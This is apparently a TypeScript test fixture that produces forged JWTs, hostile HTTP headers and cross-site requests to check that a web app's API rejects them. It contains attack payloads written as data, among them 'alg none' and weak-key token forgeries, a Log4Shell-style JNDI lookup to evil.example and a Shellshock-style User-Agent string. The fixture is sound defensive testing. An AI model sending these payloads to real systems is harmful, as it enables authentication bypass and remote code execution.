import { createHmac } from 'node:crypto';
import type { HostileRequest } from './hostile.fixture.ts';
import { JSON_TYPE } from './http.fixture.ts';
import { HOSTILE_ADDRESSES } from './registry.fixture.ts';

const part = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url');
const signed = (header: object, claims: object, hash: 'sha256' | 'sha512', key: string): string => {
  const text = `${part(header)}.${part(claims)}`;
  return `${text}.${createHmac(hash, key).update(text).digest('base64url')}`;
};
const CLAIMS = {
  sub: '1',
  sid: '0b9f5c1e-3c55-4a8e-9d0b-7a3f7b8f6c11',
  typ: 'access',
  iss: 'alma',
  aud: 'alma',
  iat: 1,
  exp: 9_999_999_999,
};

/** Invalid tokens, made from a real one. */
export function forgeries(real: string): Record<string, string> {
  const [head = '', claims = '', signature = ''] = real.split('.');
  const own = JSON.parse(Buffer.from(claims, 'base64url').toString()) as Record<string, unknown>;
  return {
    nothing: '',
    null: 'null',
    'a word': 'secret',
    'no signature': `${head}.${claims}.`,
    'another signature': `${head}.${claims}.${signature.split('').reverse().join('')}`,
    'other claims': `${head}.${part({ ...own, sub: '999' })}.${signature}`,
    'alg none': `${part({ alg: 'none', typ: 'JWT' })}.${claims}.`,
    'alg NONE': `${part({ alg: 'NONE' })}.${claims}.${signature}`,
    HS512: signed({ alg: 'HS512', typ: 'JWT' }, own, 'sha512', 'secret'),
    'a guessed key': signed({ alg: 'HS256', typ: 'JWT' }, own, 'sha256', 'secret'),
    'an empty key': signed({ alg: 'HS256', typ: 'JWT' }, own, 'sha256', '\0'),
    'a key in the header': signed(
      { alg: 'HS256', jwk: { kty: 'oct', k: 'c2VjcmV0' }, kid: '../../../dev/null' },
      CLAIMS,
      'sha256',
      'secret',
    ),
    'no expiry': signed({ alg: 'HS256' }, { ...CLAIMS, exp: undefined }, 'sha256', 'secret'),
    long: `${head}.${'a'.repeat(9_000)}.${signature}`,
    'two tokens': `${real}, ${real}`,
    'a quoted token': `"${real}"`,
    'bytes that are not ASCII': Buffer.from('é€').toString('latin1'),
  };
}

/** Headers that some servers trust. */
export const HEADER_TRICKS: readonly HostileRequest[] = [
  { 'X-HTTP-Method-Override': 'DELETE' },
  { 'X-Method-Override': 'PUT', 'X-HTTP-Method': 'PUT' },
  { 'X-Original-URL': '/api/admin/me', 'X-Rewrite-URL': '/api/admin/me' },
  { 'X-Forwarded-For': '127.0.0.1', 'X-Real-IP': '127.0.0.1', 'X-Forwarded-Proto': 'https' },
  { 'X-Forwarded-Host': 'evil.example', Forwarded: 'host=evil.example' },
  { Host: 'evil.example' },
  { Host: 'a b' },
  { Range: 'bytes=0-,0-,0-,0-' },
  { Accept: '*/*;q=9,;;,/' },
  { 'Accept-Encoding': 'br;q=x, gzip;;, *' },
  { 'If-None-Match': 'W/"' },
  { 'If-None-Match': '"a",'.repeat(1_000) },
  { Cookie: `auth_token=${'x'.repeat(6_000)}` },
  { Cookie: 'auth_token=abc; session=1' },
  { 'X-Request-Id': '${jndi:ldap://evil.example/a}' },
  { 'X-Request-Id': ['aaaaaaaa', 'bbbbbbbb'] },
  { 'User-Agent': "() { :; }; echo 'x'" },
  { 'User-Agent': '' },
  { Authorization: ['Bearer a', 'Bearer b'] },
  { Authorization: 'Basic YWRtaW46YWRtaW4=' },
  { 'Accept-Language': 'x'.repeat(4_000) },
  { Origin: 'null' },
].flatMap((headers) =>
  ['/api/colleges', '/api/user'].map((path) => ({
    name: `GET ${path} with ${JSON.stringify(headers).slice(0, 60)}`,
    method: 'GET',
    path,
    headers: headers as unknown as Record<string, string | string[]>,
    statuses: path === '/api/user' ? [401] : [200, 304],
  })),
);

/** Cross-site calls. */
export const FOREIGN_PAGES: readonly HostileRequest[] = HOSTILE_ADDRESSES.filter(({ method }) => method !== 'GET').flatMap(
  ({ method, path }) =>
    [
      { Origin: 'https://evil.example' },
      { Origin: 'https://alma.example.evil.example' },
      { Origin: 'http://alma.example' },
      { Origin: 'null' },
      { 'Sec-Fetch-Site': 'cross-site' },
      { 'Sec-Fetch-Site': 'same-site', Origin: 'https://other.alma.example' },
    ].map((headers) => ({
      name: `${method} ${path} from ${JSON.stringify(headers)}`,
      method,
      path,
      headers: { ...JSON_TYPE, ...headers } as Record<string, string>,
      body: '{}',
      statuses: [403],
    })),
);
